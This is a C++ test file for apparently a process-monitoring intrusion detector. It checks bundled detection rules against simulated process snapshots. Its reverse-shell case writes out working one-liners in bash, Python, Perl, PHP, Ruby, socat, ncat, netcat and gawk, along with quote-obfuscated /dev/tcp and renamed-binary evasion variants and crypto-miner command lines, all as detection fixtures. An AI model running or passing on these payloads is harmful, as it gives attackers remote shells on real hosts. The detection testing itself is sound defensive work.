// The rules shipped in daemoneye/rules/: each loads through the guarded
// engine, and over a real store finds exactly the processes it is meant to,
// among an ordinary host's processes that it must leave alone.

#include <gtest/gtest.h>

#include <airssys/daemoneye/query_engine.hpp>
#include <airssys/daemoneye/rule.hpp>
#include <airssys/daemoneye/store.hpp>
#include <algorithm>
#include <cstdlib>
#include <ctime>
#include <filesystem>
#include <limits>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "socket_test_util.hpp"
#include "store_engine_fixture.hpp"
#include "store_test_util.hpp"

namespace airssys::daemoneye {
namespace {

using test::inet_socket_row;
using test::proc;
using test::unix_socket_row;
using test::TempDir;
namespace fs = std::filesystem;

fs::path rules_dir() {
  if (const char* src = std::getenv("AIRSSYS_SOURCE_DIR"); src != nullptr && *src != '\0') {
    return fs::path(src) / "daemoneye/rules";
  }
  return DAEMONEYE_RULES_DIR;
}

ProcessRecord kernel_thread(std::int64_t pid, std::string name) {
  ProcessRecord r = proc(pid, std::move(name), "", "", 2);
  r.cmdline = "";
  r.uid = r.euid = r.gid = r.egid = 0;
  r.on_disk = -1;
  r.sha256 = "";
  return r;
}

ProcessRecord with(ProcessRecord r, auto&& change) {
  change(r);
  return r;
}

// An ordinary server: none of these may raise an alert.
std::vector<ProcessRecord> ordinary_host() {
  return {
      proc(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", 0),
      kernel_thread(2, "kthreadd"),
      kernel_thread(3, "kworker/0:1-events"),
      kernel_thread(4, "ksoftirqd/0"),
      kernel_thread(5, "migration/0"),
      kernel_thread(6, "rcu_sched"),
      kernel_thread(7, "kswapd0"),
      kernel_thread(8, "irq/9-acpi"),
      proc(500, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
      proc(501, "bash", "/usr/bin/bash", "-bash", 500),
      proc(502, "vim", "/usr/bin/vim.basic", "vim /tmp/notes.txt", 501),
      proc(600, "nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on;"),
      proc(601, "nginx", "/usr/sbin/nginx", "nginx: worker process", 600),
      proc(700, "php-fpm8.2", "/usr/sbin/php-fpm8.2",
           "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
      proc(701, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", 700),
      proc(800, "python3", "/usr/bin/python3.11", "/usr/bin/python3 /opt/app/server.py --port 8080"),
      proc(801, "python3", "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())",
           501),
      proc(802, "watchdog", "/usr/sbin/watchdog", "/usr/sbin/watchdog"),
      proc(803, "kubelet", "/usr/bin/kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml"),
      proc(804, "cron", "/usr/sbin/cron", "/usr/sbin/cron -f"),
      proc(805, "bash", "/usr/bin/bash", "/bin/bash /usr/local/bin/backup.sh", 804),
      proc(806, "nc", "/usr/bin/nc.openbsd", "nc -zv db.internal 5432", 501),
      proc(807, "socat", "/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:localhost:80"),
      proc(808, "git", "/usr/bin/git", "git clone https://github.com/example/stratum-docs", 501),
      proc(809, "sh", "/usr/bin/dash", "sh -c mkfifo /run/app/control", 804),
      proc(810, "ls", "/usr/bin/ls", "ls -l /dev/tcp", 501),
      proc(811, "make", "/usr/bin/make", "make -j4", 501),
      with(proc(812, "gcc", "/usr/bin/gcc-12", "gcc -c x.c", 811), [](auto& r) { r.cwd = "/tmp/build"; }),
      proc(813, "tool", "/tmpfiles/tool", "/tmpfiles/tool", 501),
      with(proc(814, "daemon", "/usr/sbin/daemon", "daemon"), [](auto& r) { r.on_disk = -1; }),
      proc(815, "perl", "/usr/bin/perl", "perl -e print 1", 501),
  };
}

ProcessRecord in_dir(ProcessRecord r, std::string cwd) {
  r.cwd = std::move(cwd);
  return r;
}

struct Case {
  std::vector<ProcessRecord> matching;
  std::vector<ProcessRecord> not_matching;
  std::vector<osl::proc::OpenSocket> sockets;  // process_open_sockets of the snapshot
  // Exec events stored a second ago, of processes gone before the scan or
  // changed since (the snapshot may hold the same pid under another name
  // or command line): the rule must find the first and not the second.
  std::vector<ProcessRecord> matching_execs;
  std::vector<ProcessRecord> other_execs;
  // The users table (none stored when empty).
  std::vector<UserAccount> users;
  std::vector<MemoryMapRow> memory_maps;  // process_memory_map of the snapshot
};

// An executable region of `pid` mapping `path` (inode 0: no file).
MemoryMapRow mapped(std::int64_t pid, std::string path, std::int64_t inode = 1234) {
  const int pseudo = inode == 0 && !path.empty() ? 1 : 0;
  return MemoryMapRow{.pid = static_cast<std::int32_t>(pid), .start = "0x7f0000001000", .end = "0x7f0000002000",
                      .permissions = "r-xp", .offset = 4096, .device = "fd:01", .inode = inode,
                      .path = std::move(path), .pseudo = pseudo};
}

// An inet socket row with its local port set (0: bound to none).
osl::proc::OpenSocket on_port(osl::proc::OpenSocket s, int port) {
  s.entry.local_port = port;
  return s;
}

// An ordinary host's local accounts.
std::vector<UserAccount> ordinary_accounts() {
  return {{.uid = 0, .gid = 0, .username = "root", .description = "root", .directory = "/root", .shell = "/bin/bash"},
          {.uid = 1, .gid = 1, .username = "daemon", .directory = "/usr/sbin", .shell = "/usr/sbin/nologin"},
          {.uid = 33, .gid = 33, .username = "www-data", .directory = "/var/www", .shell = "/usr/sbin/nologin"},
          {.uid = 1000, .gid = 1000, .username = "alice", .directory = "/home/alice", .shell = "/bin/bash"},
          {.uid = 65534, .gid = 65534, .username = "nobody", .directory = "/nonexistent", .shell = "/usr/sbin/nologin"}};
}

std::map<std::string, Case> cases() {
  std::map<std::string, Case> c;
  c["exe-deleted"] = {
      {with(proc(1000, "evil", "/usr/bin/evil"), [](auto& r) { r.on_disk = 0; })},
      {proc(1001, "fine", "/usr/bin/fine")},
  };
  c["exec-from-tmp"] = {
      {proc(1000, "x", "/tmp/x"), proc(1001, "y", "/var/tmp/.cache/y"), proc(1002, "z", "/dev/shm/z"),
       proc(1005, "x", "/run/lock/x")},
      {proc(1003, "tmp", "/usr/bin/tmp"), proc(1004, "x", "/srv/tmp/x"), proc(1006, "y", "/var/tmpfiles/y"),
       proc(1007, "z", "/.tmp/z")},
      {},
      // Paths as the kernel was given them (probe 14): ways to /tmp that do
      // not start with /tmp/, runs through an fd, interpreters given a file
      // in a temporary directory.
      {proc(1010, "sl", "//tmp/p14/atk/sl"), proc(1011, "sl", "/tmp/./p14//sl"),
       proc(1012, "sl", "/var//./tmp/sl"), proc(1013, "sl", "/../tmp/sl"),
       in_dir(proc(1014, "sl", "./sl"), "/tmp/x"), in_dir(proc(1015, "sl", "/proc/self/cwd/sl"), "/tmp/x"),
       proc(1016, "3", "/dev/fd/3"), proc(1017, "sleep", "/proc/4242/fd/5"),
       proc(1018, "5", "/proc/self/task/1018/fd/5"), proc(1019, "x", "/var/lock/x"),
       proc(1020, "ld-linux-x86-64", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
            "/lib64/ld-linux-x86-64.so.2 /tmp/x"),
       proc(1021, "sh", "/usr/bin/dash", "sh /tmp/x.sh"),
       proc(1022, "python3", "/usr/bin/python3.11", "python3 -u //var/tmp/.x/a.py"),
       in_dir(proc(1023, "perl", "/usr/bin/perl", "perl ./a.pl"), "/dev/shm"),
       in_dir(proc(1024, "bash", "/usr/bin/bash", "bash x.sh"), "/tmp/w"),
       proc(1025, "rsyslogd", "/usr/bin/bash", "rsyslogd /run/lock/.s")},
      {in_dir(proc(1030, "sh", "/usr/bin/dash", "sh -c id"), "/tmp"),
       in_dir(proc(1031, "python3", "/usr/bin/python3.11", "python3 -m http.server 8000"), "/tmp"),
       in_dir(proc(1032, "vim", "/usr/bin/vim.basic", "vim /tmp/notes.txt"), "/tmp"),
       in_dir(proc(1033, "ls", "./ls", "./ls -l"), "/usr/bin"),
       in_dir(proc(1034, "bash", "/usr/bin/bash", "bash /usr/local/bin/backup.sh"), "/tmp"),
       in_dir(proc(1035, "bash", "/usr/bin/bash", "bash -i"), "/tmp"),
       proc(1036, "runc", "/proc/self/exe", "runc init"),
       proc(1037, "python3", "/usr/bin/python3.11", "python3 /opt/app/tmp/server.py"),
       proc(1038, "perl", "/usr/bin/perl", "perl -e print 1 /tmp/x"),
       proc(1039, "bash", "/usr/bin/bash", "bash /dev/fd/3")},  // bash <(...): a script through a pipe
  };
  c["webserver-shell"] = {
      {proc(1000, "sh", "/usr/bin/dash", "sh -c id", 601),
       proc(1001, "bash", "/usr/bin/bash", "bash -i", 701),
       proc(1002, "python3", "/usr/bin/python3.11", "python3 -c import pty", 1100),
       proc(1003, "perl", "/usr/bin/perl", "perl /usr/lib/cgi-bin/x.pl", 1101)},
      {proc(1004, "sh", "/usr/bin/dash", "sh -c id", 804),
       proc(1005, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "x", 700),
       proc(1006, "id", "/usr/bin/id", "id", 601)},
  };
  // Parents for the web server case.
  c["webserver-shell"].not_matching.push_back(
      proc(1100, "apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"));
  c["webserver-shell"].not_matching.push_back(
      proc(1101, "httpd", "/usr/sbin/httpd", "/usr/sbin/httpd -DFOREGROUND"));
  c["crypto-miner"] = {
      {proc(1000, "xmrig", "/opt/xmrig", "./xmrig"), proc(1001, "XMRig", "/opt/XMRig", "XMRig"),
       proc(1002, "a", "/opt/a", "./a -o stratum+tcp://pool.example.net:4444 -u 44abc"),
       proc(1003, "b", "/opt/b", "./b --url=stratum2+tcp://pool:3333"),
       proc(1004, "c", "/opt/c", "./c --donate-level 1 -o pool:443"),
       proc(1005, "d", "/opt/d", "./d -a cryptonight -o pool:3333")},
      {proc(1006, "stratum", "/usr/bin/stratum", "stratum --help"),
       proc(1007, "minerva", "/usr/bin/minerva", "m")},
  };
  c["reverse-shell"] = {
      {proc(1000, "bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
       proc(1001, "sh", "/usr/bin/dash", "sh -c exec 5<>/dev/udp/10.0.0.1/53"),
       proc(1002, "nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444"),
       proc(1003, "ncat", "/usr/bin/ncat", "ncat 10.0.0.1 4444 --sh-exec /bin/bash"),
       proc(1004, "socat", "/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr"),
       proc(1005, "python3", "/usr/bin/python3.11",
            "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
            "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"),
       proc(1006, "perl", "/usr/bin/perl",
            "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
            "if(connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")))){open(STDIN,\">&S\");exec(\"/bin/sh "
            "-i\");};"),
       proc(1007, "php", "/usr/bin/php8.2",
            "php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3\");"),
       proc(1008, "ruby", "/usr/bin/ruby3.1",
            "ruby -rsocket -e f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)"),
       proc(1009, "sh", "/usr/bin/dash",
            "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"),
       proc(1010, "gawk", "/usr/bin/gawk", "gawk BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(1) {}}")},
      {proc(1011, "nc", "/usr/bin/nc.openbsd", "nc -l 1234"),
       proc(1012, "socat", "/usr/bin/socat", "socat - UNIX-CONNECT:/run/app.sock"),
       proc(1013, "python3", "/usr/bin/python3.11", "python3 /opt/socket_server.py")},
  };
  // Probe 14: quotes and backslashes inside /dev/tcp/, a netcat renamed.
  c["reverse-shell"].matching.push_back(
      proc(1014, "bash", "/usr/bin/bash",
           "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001; while read -r -u 5 l; do eval \"$l\" >&5 2>&5; done"));
  c["reverse-shell"].matching.push_back(proc(1015, "sh", "/usr/bin/dash", "sh -c cat </d'e'v/tc\\p/10.0.0.1/80"));
  c["reverse-shell"].matching.push_back(
      proc(1016, "rsyslogd", "/usr/bin/nc.traditional", "rsyslogd -e /bin/sh 10.0.0.1 4444"));
  c["reverse-shell"].not_matching.push_back(proc(1017, "bash", "/usr/bin/bash", "bash -c echo \"/dev/tcp\""));
  c["reverse-shell"].not_matching.push_back(proc(1018, "cat", "/usr/bin/cat", "cat /opt/doc/dev/tcpdump.txt"));
  // Perl that set $0 after it started: the snapshot holds its new words,
  // its exec event the one-liner it was started with.
  c["reverse-shell"].not_matching.push_back(proc(1020, "cron", "/usr/bin/perl", "/usr/sbin/cron -f"));
  c["reverse-shell"].matching_execs = {
      proc(1020, "perl", "/usr/bin/perl",
           "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(47001,"
           "inet_aton(\"127.0.0.1\")));open(STDIN,\"<&S\");exec(\"/bin/sh -i\");"),
      proc(1021, "python3", "/usr/bin/python3.11",
           "python3 -c import socket,os;s=socket.create_connection((\"127.0.0.1\",47001));"
           "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv(\"/bin/bash\",[\"bash\"])"),
      proc(1022, "bash", "/usr/bin/bash", "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001")};
  c["reverse-shell"].other_execs = {proc(1023, "bash", "/usr/bin/bash", "bash -c printf rsyslogd > /proc/$$/comm"),
                                    proc(1024, "nc", "/usr/bin/nc.openbsd", "nc -zv 10.0.0.1 22")};
  c["reverse-shell-socket"] = {
      // A reverse shell on all three fds (one row), a UDP one, one over
      // IPv6 with only stderr on the socket, and dash via busybox.
      // Probe 14: connected on fd 3 or 5 only (exec 5<>/dev/tcp/...; read -u 5),
      // and bash that wrote "rsyslogd" into /proc/self/comm (its path stays).
      {proc(1000, "bash", "/usr/bin/bash", "bash -i", 1100), proc(1001, "sh", "/usr/bin/dash", "sh"),
       proc(1002, "zsh", "/usr/bin/zsh", "zsh"), proc(1003, "busybox", "/bin/busybox", "sh -i"),
       proc(1005, "bash", "/usr/bin/bash", "bash"), proc(1008, "rsyslogd", "/usr/bin/bash", "rsyslogd"),
       proc(1009, "bash", "/usr/bin/bash", "bash -c exec 5<>/dev/t\"c\"p/127.0.0.1/47001")},
      {
          proc(1004, "bash", "/usr/bin/bash", "bash"),      // a listening socket on fd 0
          proc(1006, "sh", "/usr/bin/dash", "sh"),          // a unix socket (systemd's stdout stream)
          proc(1100, "nc", "/usr/bin/nc", "nc 10.0.0.1 4444"),  // connected on fd 0, but no shell
          proc(1007, "dash", "/usr/bin/dash", "dash"),      // TIME_WAIT leftovers have no fd; UDP unconnected
          proc(1010, "bash", "/usr/bin/bash", "bash"),      // socket-activated: a listening socket on fd 3
          proc(1011, "bash", "/usr/bin/bash", "-bash"),     // a login shell beside ssh-agent's unix socket
          proc(1012, "python3", "/usr/bin/python3.11", "python3 /opt/app/server.py"),  // a client, no shell
      },
      {inet_socket_row(1000, 0, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
       inet_socket_row(1000, 1, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
       inet_socket_row(1000, 2, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
       inet_socket_row(1001, 0, 2, 17, "10.0.0.1", 53, ""),
       inet_socket_row(1002, 2, 10, 6, "2001:db8::1", 443, "CLOSE_WAIT"),
       inet_socket_row(1003, 1, 2, 6, "10.0.0.9", 8443, "ESTABLISHED"),
       inet_socket_row(1004, 0, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1005, 3, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
       unix_socket_row(1006, 1, ""),
       unix_socket_row(1006, 2, "/run/systemd/journal/stdout"),
       inet_socket_row(1100, 0, 2, 6, "10.0.0.1", 4444, "ESTABLISHED"),
       inet_socket_row(1007, 0, 2, 17, "0.0.0.0", 0, ""),
       inet_socket_row(1008, 0, 2, 6, "127.0.0.1", 47001, "ESTABLISHED"),
       inet_socket_row(1009, 5, 2, 6, "127.0.0.1", 47001, "ESTABLISHED"),
       inet_socket_row(1010, 3, 10, 6, "::", 0, "LISTEN"),
       unix_socket_row(1011, 3, "/tmp/ssh-XXXX/agent.501"),
       inet_socket_row(1012, 7, 2, 6, "10.0.0.5", 5432, "ESTABLISHED")},
  };
  // A file mounted over the path in the process's own mount namespace
  // (unshare -Urm; mount --bind /tmp/payload /usr/bin/sleep; exec it): the
  // path names the image there (on_disk 1), not on the host (host_on_disk 0).
  const auto masked = [](ProcessRecord r, int root_is_host, int on_disk, int host_on_disk, std::string root = "/") {
    r.root_is_host = root_is_host;
    r.on_disk = on_disk;
    r.host_on_disk = host_on_disk;
    r.root = std::move(root);
    return r;
  };
  c["exe-masked-by-mount"] = {
      {masked(proc(1000, "sleep", "/usr/bin/sleep", "/usr/bin/sleep 100"), 1, 1, 0),
       masked(proc(1001, "sshd", "/usr/sbin/sshd", "sshd -D"), 1, 1, 0),
       // Its own view unreadable: an unprivileged FUSE file system over /usr
       // (no allow_other) refuses procmond's look through its root (EACCES).
       masked(proc(1009, "bash", "/usr/bin/bash", "/usr/bin/bash"), 1, -1, 0)},
      {// A container's or sandbox's own root: its /usr/bin/sleep is not the host's.
       masked(proc(1002, "sleep", "/usr/bin/sleep", "sleep 100"), 0, 1, 0,
              "/var/lib/containers/storage/overlay/3f1c/merged"),
       masked(proc(1003, "bwrap", "/usr/bin/bwrap", "bwrap --args 41 -- /app/bin/app"), 0, 1, 0, "/newroot"),
       // Deleted or replaced on disk (exe-deleted's), and unknown sides.
       masked(proc(1004, "daemon", "/usr/sbin/daemon", "daemon"), 1, 0, 0),
       masked(proc(1005, "x", "/usr/bin/x", "x"), -1, 1, 0),
       masked(proc(1006, "y", "/usr/bin/y", "y"), 1, 1, -1),
       masked(proc(1007, "z", "/usr/bin/z", "z"), 1, -1, -1)},
      {},
      {},
      // Gone before the scan: its exec event alone does not raise it.
      {masked(proc(1008, "sleep", "/usr/bin/sleep", "sleep 1"), 1, 1, 0)},
  };
  const auto deleted = [](ProcessRecord r) {
    r.on_disk = 0;
    return r;
  };
  c["listener-from-tmp"] = {
      // TCP and UDP listeners run from /tmp, /dev/shm, a memfd, and a
      // deleted image outside the package directories; one row for two ports.
      {proc(1000, "x", "/tmp/x", "/tmp/x -l"), proc(1001, "bind", "/dev/shm/.s/bind", "bind"),
       proc(1002, "m", "/memfd:m", "m"), deleted(proc(1003, "kworker", "/home/alice/.cache/k", "k")),
       proc(1004, "y", "/var/tmp/y", "y")},
      {proc(1010, "client", "/tmp/client", "client"),        // connected only
       proc(1011, "uds", "/tmp/uds", "uds"),                 // a unix socket in /tmp
       deleted(proc(1012, "nginx", "/usr/sbin/nginx", "nginx")),  // upgraded under a running daemon: exe-deleted's
       proc(1013, "python3", "/usr/bin/python3.11", "python3 -m http.server"),
       proc(1014, "x", "/srv/tmp/x", "x"),
       proc(1015, "z", "/tmp/z", "z")},                       // a TCP socket bound to no port
      {inet_socket_row(1000, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1001, 4, 2, 17, "0.0.0.0", 0, ""),
       inet_socket_row(1002, 5, 10, 6, "::", 0, "LISTEN"),
       inet_socket_row(1003, 6, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1004, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1004, 4, 10, 17, "::", 0, ""),
       inet_socket_row(1010, 3, 2, 6, "10.0.0.1", 443, "ESTABLISHED"),
       unix_socket_row(1011, 3, "/tmp/uds.sock"),
       inet_socket_row(1012, 6, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1013, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1014, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       on_port(inet_socket_row(1015, 3, 2, 6, "0.0.0.0", 0, "CLOSED"), 0)},
  };
  const auto as_uid = [](ProcessRecord r, std::int64_t uid, std::int64_t euid, int root_is_host = 1) {
    r.uid = uid;
    r.euid = euid;
    r.root_is_host = root_is_host;
    return r;
  };
  c["listener-without-account"] = {
      // A uid no account has, and root that took an effective uid no account has.
      {as_uid(proc(1000, "svc", "/usr/local/bin/svc", "svc"), 4242, 4242),
       as_uid(proc(1001, "dns", "/usr/local/bin/dns", "dns"), 0, 31337)},
      {as_uid(proc(1010, "web", "/usr/bin/web", "web"), 1000, 1000),
       as_uid(proc(1011, "db", "/usr/bin/db", "db"), 4242, 4242, 0),         // a container's own uid
       as_uid(proc(1012, "resolved", "/usr/bin/r", "r"), 61200, 61200),     // systemd DynamicUser=
       as_uid(proc(1013, "cli", "/usr/bin/cli", "cli"), 4242, 4242),        // connected only
       as_uid(proc(1014, "uds", "/usr/bin/uds", "uds"), 4242, 4242),        // a unix socket
       as_uid(proc(1015, "nginx", "/usr/sbin/nginx", "nginx"), 33, 33)},
      {inet_socket_row(1000, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1001, 3, 10, 17, "::", 0, ""),
       inet_socket_row(1010, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1011, 3, 2, 6, "0.0.0.0", 0, "LISTEN"),
       inet_socket_row(1012, 3, 2, 17, "127.0.0.53", 0, ""),
       inet_socket_row(1013, 3, 2, 6, "10.0.0.1", 443, "ESTABLISHED"),
       unix_socket_row(1014, 3, "/run/uds.sock"),
       inet_socket_row(1015, 3, 2, 6, "0.0.0.0", 0, "LISTEN")},
      {},
      {},
      ordinary_accounts(),
  };
  c["library-from-tmp"] = {
      // Code mapped from /tmp, /dev/shm, a memfd, a deleted file outside
      // the package directories; two such files are one row.
      {proc(1000, "python3", "/usr/bin/python3.11", "python3 x.py"), proc(1001, "sshd", "/usr/sbin/sshd", "sshd"),
       proc(1002, "bash", "/usr/bin/bash", "bash"), proc(1003, "nginx", "/usr/sbin/nginx", "nginx"),
       proc(1004, "cron", "/usr/sbin/cron", "cron")},
      {deleted(proc(1010, "payload", "/tmp/payload", "payload")),  // its own image: exec-from-tmp's
       proc(1011, "m", "/memfd:m", "m"),                              // likewise
       deleted(proc(1012, "prog", "/home/a/prog", "prog")),          // its own image deleted: exe-deleted's
       proc(1013, "sshd", "/usr/sbin/sshd", "sshd"),                  // a library upgraded under it
       proc(1014, "bash", "/usr/bin/bash", "bash"),                   // libraries, [vdso], anonymous code
       proc(1015, "srv", "/srv/bin/srv", "srv")},
      {},
      {},
      {},
      {},
      {mapped(1000, "/usr/lib/x86_64-linux-gnu/libc.so.6"), mapped(1000, "/tmp/x/libz.so.1"),
       mapped(1001, "/dev/shm/.l/libhide.so"), mapped(1002, "/memfd:inj (deleted)", 7),
       mapped(1003, "/home/a/libx.so (deleted)"), mapped(1004, "/var/tmp/a.so"), mapped(1004, "/run/lock/b.so"),
       mapped(1010, "/tmp/payload"), mapped(1011, "/memfd:m (deleted)", 9), mapped(1012, "/home/a/prog (deleted)"),
       mapped(1013, "/usr/lib/x86_64-linux-gnu/libssl.so.3 (deleted)"),
       mapped(1014, "/usr/lib/x86_64-linux-gnu/libc.so.6"), mapped(1014, "[vdso]", 0), mapped(1014, "", 0),
       mapped(1015, "/srv/tmp/lib.so")},
  };
  c["kernel-thread-mimic"] = {
      {proc(1000, "kworker/0:1", "/usr/local/bin/kw", "kworker/0:1"),
       proc(1001, "kworkerds", "/usr/bin/kworkerds", "/usr/bin/kworkerds"),
       proc(1002, "bash", "/usr/bin/bash", "[kthreadd]"), proc(1003, "migration/3", "/opt/m", "migration/3"),
       proc(1004, "rcu_gp", "/opt/r", "rcu_gp"),
       // Probe 14: one argument after the bracketed argv[0].
       proc(1008, "sleep", "/usr/bin/sleep", "[kworker/0:1] 30")},
      {kernel_thread(1005, "kworker/u8:2"), proc(1006, "kded5", "/usr/bin/kded5", "kded5"),
       proc(1007, "echo", "/usr/bin/echo", "echo [x]"), proc(1009, "echo", "/usr/bin/echo", "echo [x] y"),
       proc(1010, "[", "/usr/bin/[", "[ -f /etc/x ]"), proc(1011, "sort", "/usr/bin/sort", "sort -k [1] x")},
  };
  return c;
}

// The pid of each row `query` gives, repeats and all (a rule's row and an
// event of the same process are two).
Result<std::multiset<std::int64_t>> pids_found(QueryEngine& engine, const std::string& query) {
  auto result = engine.run(query);
  if (!result) return std::unexpected(result.error());
  const auto pid_col = static_cast<std::size_t>(std::ranges::find(result->columns, "pid") - result->columns.begin());
  if (pid_col == result->columns.size()) return fail(ErrorCategory::invalid_input, "the query gives no pid column");
  std::multiset<std::int64_t> found;
  for (const auto& row : result->rows) found.insert(std::get<std::int64_t>(row[pid_col]));
  return found;
}

// The distinct pids of `found`, from `from` up (those below are the
// ordinary host's and its parents').
std::set<std::int64_t> distinct(const std::multiset<std::int64_t>& found,
                                std::int64_t from = std::numeric_limits<std::int64_t>::min()) {
  return {found.lower_bound(from), found.end()};
}

// An exec event at `at` of `p`, whose path as the exec was given it is `given`.
ProcessEvent exec_given(ProcessRecord p, std::string given, std::int64_t at) {
  ProcessEvent e{EventKind::exec, EventSource::ebpf, at, std::move(p)};
  e.path_given = std::move(given);
  return e;
}

class BundledRules : public test::StoreAndEngine {
 protected:
  // The bundled rule `id`, loaded through engine_; none when there is no such rule.
  std::optional<Rule> bundled(std::string_view id) {
    RuleSet set = load_rules(rules_dir(), engine_.get());
    const auto it = std::ranges::find(set.rules, id, &Rule::id);
    if (it == set.rules.end()) return std::nullopt;
    return std::move(*it);
  }
};

TEST_F(BundledRules, AllLoadThroughTheGuardedEngine) {
  RuleSet set = load_rules(rules_dir(), engine_.get());
  for (const auto& e : set.errors) ADD_FAILURE() << e.message;
  std::vector<std::string> ids;
  for (const auto& r : set.rules) {
    ids.push_back(r.id);
    EXPECT_TRUE(r.enabled) << r.id;
    EXPECT_FALSE(r.description.empty()) << r.id;
    EXPECT_TRUE(std::ranges::any_of(r.tags, [](const std::string& t) { return t.starts_with("attack.t"); }))
        << r.id << " has no ATT&CK technique tag";
    // The default dedup key (pid, start_time) needs both in every result;
    // a rule over accounts names its own (uid0-account).
    auto cols = engine_->columns(r.query);
    ASSERT_TRUE(cols) << cols.error();
    const std::vector<std::string> key =
        r.key_columns.empty() ? std::vector<std::string>{"pid", "start_time"} : r.key_columns;
    for (const auto& k : key) EXPECT_TRUE(std::ranges::find(*cols, k) != cols->end()) << r.id << ": " << k;
  }
  EXPECT_EQ(ids, (std::vector<std::string>{"crypto-miner", "exe-deleted", "exe-masked-by-mount", "exec-from-tmp",
                                           "kernel-thread-mimic", "library-from-tmp", "listener-from-tmp",
                                           "listener-without-account",
                                           "reverse-shell", "reverse-shell-socket", "uid0-account",
                                           "webserver-shell"}));
}

TEST_F(BundledRules, EachFindsExactlyItsProcesses) {
  RuleSet set = load_rules(rules_dir(), engine_.get());
  ASSERT_TRUE(set.errors.empty());
  const auto all_cases = cases();
  // uid0-account reads accounts, not processes: UidZeroAccountFindsExactlyTheOtherRoots.
  ASSERT_EQ(all_cases.size() + 1, set.rules.size());
  for (const Rule& rule : set.rules) {
    if (rule.id == "uid0-account") continue;
    SCOPED_TRACE(rule.id);
    auto it = all_cases.find(rule.id);
    ASSERT_NE(it, all_cases.end()) << "no test case for rule " << rule.id;
    std::vector<ProcessRecord> snapshot = ordinary_host();
    std::set<std::int64_t> expected;
    for (const auto& p : it->second.matching) {
      snapshot.push_back(p);
      expected.insert(p.pid);
    }
    for (const auto& p : it->second.not_matching) snapshot.push_back(p);
    // Each rule over a store of its own: the exec events of one case are
    // not another's. The ordinary host's processes were exec'd a second
    // ago too (what a rule over exec events reads of them), and so were the
    // matching processes; the cases'
    // execs ran and stopped a second ago, and each matching one also ten
    // minutes ago under another pid: a rule reads two minutes of events,
    // so that one is not raised. The snapshot comes last: `processes`
    // holds it (an exec event alone would have put its process there).
    TempDir dir;
    auto store = Store::open({.path = dir / "d.db"});
    ASSERT_TRUE(store) << store.error();
    auto engine = QueryEngine::open(dir / "d.db");
    ASSERT_TRUE(engine) << engine.error();
    const std::int64_t now = ::time(nullptr);
    std::vector<ProcessEvent> events;
    const auto ran = [&](const ProcessRecord& p, std::int64_t at) {
      events.push_back({EventKind::exec, EventSource::ebpf, at, p});
      events.push_back({EventKind::stop, EventSource::ebpf, at, p});
    };
    for (const auto& p : ordinary_host())
      if (!p.path.empty()) events.push_back({EventKind::exec, EventSource::ebpf, now - 1, p});
    // A matching process still running with its exec a second ago is one
    // row, not two (rows.size() below).
    for (const auto& p : it->second.matching) events.push_back({EventKind::exec, EventSource::ebpf, now - 1, p});
    for (const auto& p : it->second.other_execs) ran(p, now - 1);
    for (const auto& p : it->second.matching_execs) {
      ran(p, now - 1);
      ran(with(p, [](auto& r) { r.pid += 50000; }), now - 600);
      expected.insert(p.pid);
    }
    ASSERT_TRUE((*store)->append_events(events));
    ASSERT_TRUE((*store)->apply_snapshot(snapshot));
    ASSERT_TRUE((*store)->replace_sockets(it->second.sockets));
    ASSERT_TRUE((*store)->replace_memory_maps(it->second.memory_maps));
    if (!it->second.users.empty()) {
      ASSERT_TRUE((*store)->replace_users(it->second.users));
    }

    auto found = pids_found(**engine, rule.query);
    ASSERT_TRUE(found) << found.error();
    EXPECT_EQ(distinct(*found), expected);
    EXPECT_EQ(found->size(), expected.size());
  }
}

// A second uid 0 under another name, however its line looks; root itself,
// other uids, and uid 0's 32-bit look-alikes are not.
